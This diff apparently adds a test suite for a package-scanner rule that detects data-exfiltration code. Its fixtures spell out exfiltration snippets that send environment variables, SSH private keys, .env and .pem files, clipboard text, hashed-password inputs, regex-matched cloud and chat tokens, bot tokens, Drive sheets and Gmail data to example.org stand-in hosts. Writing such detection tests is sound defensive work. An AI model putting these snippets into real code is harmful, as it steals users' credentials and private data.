@@ -1,0 +1,101 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { findingsOf } from '#test/support/scan-package.js';
+import { rule } from './data-leak.rule.js';
+
+const worst = (files: Record<string, string>) => findingsOf(rule, files)[0]?.severity ?? 'nothing';
+const POST = 'fetch("https://collect.example.org/v1", { method: "POST", body: JSON.stringify({ at: Date.now(), env: { ...env } }) })';
+const handed = (send: string, start = "import { report } from './report.js'; report(process.env)") => worst({ 'index.js': start, 'report.js': `export async function report(env) { ${send} }` });
+
+test('bad: what is private is handed to a script that sends it', () => {
+  for (const send of [
+    POST,
+    'const body = Buffer.from(JSON.stringify(Object.entries(env))).toString("base64"); await fetch("https://example.org/" + body)',
+    'const all = []; for (const name in env) all.push(name); all.push(env); send(all); } function send(what) { navigator.sendBeacon("https://example.org", what)',
+  ]) assert.equal(handed(send), 'high', send);
+  for (const start of [
+    "import * as r from './report.js'; r.report({ ...process.env })",
+    "const { report } = require('./report'); const copy = Object.assign({}, process.env); report(copy)",
+    "require('./report.js').report(JSON.stringify(process.env))",
+    "const report_1 = require('./report'); (0, report_1.report)(process.env)",
+  ]) assert.equal(handed(POST, start), 'high', start);
+  const push = 'const https = require("https"); exports.push = (o) => { const body = JSON.stringify({ ...o }); const req = https.request({ hostname: "usage.example.org", method: "POST" }); req.on("error", () => {}); req.end(body) }';
+  for (const start of [
+    "const { push } = require('./push'); const vscode = require('vscode'); const found = await vscode.workspace.findFiles('**/{.env,.env.*,*.pem}'); for (const u of found) { const b = await vscode.workspace.fs.readFile(u); push({ data: b.toString() }) }",
+    "const { push } = require('./push'); const vscode = require('vscode'); setInterval(async () => { const t = await vscode.env.clipboard.readText(); push({ t }) }, 5000)",
+    "const { push } = require('./push'); push({ k: require('fs').readFileSync(home + '/.ssh/id_rsa', 'utf8') })",
+  ]) assert.equal(worst({ 'index.js': start, 'push.js': push }), 'high', start);
+});
+
+test('bad: by way of other scripts and of classes', () => {
+  const send = 'export const post = (body) => fetch("https://collect.example.org", { method: "POST", body: JSON.stringify(body) })';
+  assert.equal(worst({ 'index.js': "import { track } from './track.js'; track(process.env)", 'track.js': "import { post } from './post.js'; export function track(all) { const body = { at: 1, all }; return post(body) }", 'post.js': send }), 'high');
+  assert.equal(worst({ 'index.js': "import { track } from './track.js'; track(process.env)", 'track.js': "import { post } from './post.js'; export function track(all) { return post({ mode: all.MODE }) }", 'post.js': send }), 'nothing');
+  const reporter = 'class Reporter { report(all) { this.post({ all }) } post(body) { fetch("https://collect.example.org", { method: "POST", body: JSON.stringify(body) }) } }';
+  for (const [own, start] of [
+    [`export ${reporter}`, "import { Reporter } from './reporter.js'; const r = new Reporter(); r.report(process.env)"],
+    [`export ${reporter}`, "import { Reporter } from './reporter.js'; new Reporter().report({ ...process.env })"],
+    [`${reporter} export const own = new Reporter()`, "import { own } from './reporter.js'; own.report(process.env)"],
+    [`${reporter} module.exports = new Reporter()`, "require('./reporter').report(process.env)"],
+  ] as const) assert.equal(worst({ 'index.js': start, 'reporter.js': own }), 'high', start);
+});
+
+test('good: what honest scripts hand each other', () => {
+  for (const send of [
+    'await fetch("https://example.org", { body: JSON.stringify({ ci: env.CI, node: process.version }) })',
+    'if (env) await fetch("https://example.org", { body: typeof env })',
+    'const url = env.URL ?? "https://example.org"; const { MODE: mode } = env; await fetch(url, { headers: { mode } })',
+    'await fetch(address, { body: JSON.stringify(env) })',
+    'await fetch("http://localhost:3000", { body: JSON.stringify(env) })',
+    'console.log(env); await fetch("https://example.org")',
+  ]) assert.equal(handed(send), 'nothing', send);
+  for (const start of [
+    "import { report } from './report.js'; report({ mode: process.env.NODE_ENV })",
+    "import { report } from './report.js'; report(options); check(process.env)",
+    "import { report } from 'report'; report(process.env)",
+  ]) assert.equal(handed(POST, start), 'nothing', start);
+});
+
+test('passwords that are to be hashed', () => {
+  const wrapped = (code: string) => worst({ 'index.js': `const bcrypt = require('bcryptjs'); const https = require('https'); const api = Object.assign({}, bcrypt); function beacon(kind, value) { https.get({ hostname: 'img.example.org', path: '/1.gif?v=' + encodeURIComponent(value) }) } ${code} module.exports = api;` });
+  assert.equal(wrapped("api.hash = function (pw, rounds, cb) { beacon('h', pw); return bcrypt.hash(pw, rounds, cb) };"), 'high');
+  assert.equal(wrapped("api.compare = (pw, hash) => { const p = bcrypt.compare(pw, hash); p.then((ok) => { if (ok) beacon('c', pw) }); return p };"), 'high');
+  assert.equal(wrapped("api.hash = (pw, rounds) => { beacon('h', String(rounds)); return bcrypt.hash(pw, rounds) };"), 'nothing');
+  assert.equal(worst({ 'index.js': "import argon2 from 'argon2'; import { createHash } from 'crypto'; export async function hash(password) { const start = createHash('sha1').update(password).digest('hex').slice(0, 5); const known = await fetch('https://api.example.org/range/' + start); return argon2.hash(password) }" }), 'nothing', 'whether a password is known is asked with a piece of its hash');
+});
+
+test('files that are searched for keys', () => {
+  const PATTERNS = '[/AKIA[0-9A-Z]{16}/g, /gh[pousr]_[A-Za-z0-9]{36}/g, /-----BEGIN (?:RSA )?PRIVATE KEY-----/g, /xox[bap]-[\\w-]{10,}/g]';
+  const search = (patterns: string, send: string) => worst({ 'a.js': `const fs = require('fs'); const hits = []; for (const f of fs.readdirSync(dir)) { const t = fs.readFileSync(f, 'utf8'); for (const r of ${patterns}) for (const m of t.match(r) ?? []) hits.push(m) } ${send}` });
+  const SEND = "require('https').request({ host: 'stats.example.org', method: 'POST' }).end(JSON.stringify(hits))";
+  assert.equal(search(PATTERNS, SEND), 'high');
+  assert.equal(search(PATTERNS, 'console.table(hits)'), 'nothing', 'who looks for leaks shows them');
+  assert.equal(search(PATTERNS, "fetch(settings.report, { method: 'POST', body: JSON.stringify(hits) })"), 'nothing', 'to whom the settings say');
+  assert.equal(search('[/AKIA[0-9A-Z]{16}/g, /TODO/]', SEND), 'nothing');
+  assert.equal(worst({ 'a.js': `const redact = (t) => ${PATTERNS}.reduce((s, r) => s.replace(r, '***'), t); fetch('https://log.example.org', { body: redact(line) })` }), 'nothing', 'who hides keys reads no files');
+});
+
+test('bots that tell their own key, or where nobody sees it', () => {
+  for (const code of ["hook.send({ content: `**${client.user.tag}** ${client.token}` })", "channel.send('key: ' + bot.token)", "hook.send({ embeds: [{ description: client.token }] })", "const { WebhookClient } = require('discord.js'); const token = Buffer.from('RkFLRV9UT0tFTg==', 'base64').toString(); new WebhookClient({ id, token })"]) assert.equal(worst({ 'a.js': code }), 'high', code);
+  for (const code of ['socket.send(JSON.stringify({ op: 2, d: { token: client.token } }))', 'socket.send({ op: 2, token: this.client.token })', 'message.reply(`${client.user.tag} is here`)', "new WebhookClient({ url: process.env.WEBHOOK })", 'rest.setToken(client.token)']) assert.equal(worst({ 'a.js': code }), 'nothing', code);
+});
+
+test('everything that somebody keeps beside a table', () => {
+  const dump = "var all = []; var it = DriveApp.getFilesByType(MimeType.GOOGLE_SHEETS); while (it.hasNext()) { var f = it.next(); SpreadsheetApp.openById(f.getId()).getSheets().forEach(function (s) { all.push({ n: f.getName(), v: s.getDataRange().getValues() }) }) }";
+  assert.equal(worst({ 'a.js': `${dump} UrlFetchApp.fetch('https://index.example.org/i', { method: 'post', payload: JSON.stringify(all) })` }), 'high');
+  assert.equal(worst({ 'a.js': "var mails = GmailApp.search('newer_than:9d'); UrlFetchApp.fetch('https://index.example.org/i', { payload: JSON.stringify(mails.map(function (m) { return m.getFirstMessageSubject() })) })" }), 'high');
+  assert.equal(worst({ 'a.js': "var rows = SpreadsheetApp.getActiveSheet().getDataRange().getValues(); UrlFetchApp.fetch('https://sync.example.org/i', { payload: JSON.stringify(rows) })" }), 'nothing', 'a sheet that somebody has sent');
+  assert.equal(worst({ 'a.js': `${dump} UrlFetchApp.fetch(settings.url, { payload: JSON.stringify(all) })` }), 'nothing');
+});
+
+test('names that lead to themselves end', () => {
+  assert.equal(worst({ 'index.js': "const r = new r(); r.report(process.env); import { report } from './report.js'", 'report.js': `export function report(env) { ${POST} }` }), 'nothing');
+  assert.equal(worst({ 'index.js': "import { a } from './a.js'; a(process.env)", 'a.js': "import { b } from './b.js'; export function a(x) { a(x); b(x); fetch('https://example.org') }", 'b.js': "import { a } from './a.js'; export function b(x) { b(x); a(x); fetch('https://example.org') }" }), 'nothing');
+});
+
+test('functions that hand on to each other, and calls in calls, end', () => {
+  const many = Array.from({ length: 200 }, (_, i) => `export function f${i}(x) { ${Array.from({ length: 30 }, (__, j) => `f${(i * 7 + j) % 200}(x);`).join('')} }`).join('\n');
+  assert.equal(handed(`${'f('.repeat(2_000)}env${')'.repeat(2_000)}; fetch("https://example.org"); } ${many} function none() {`), 'nothing');
+  const chain = (length: number): string => `const a0 = env; ${Array.from({ length }, (_, i) => `const a${i + 1} = a${i};`).join('')} fetch("https://example.org", a${length})`;
+  assert.deepEqual([handed(chain(100)), handed(chain(2_000))], ['high', 'nothing'], 'more than a million steps');
+});
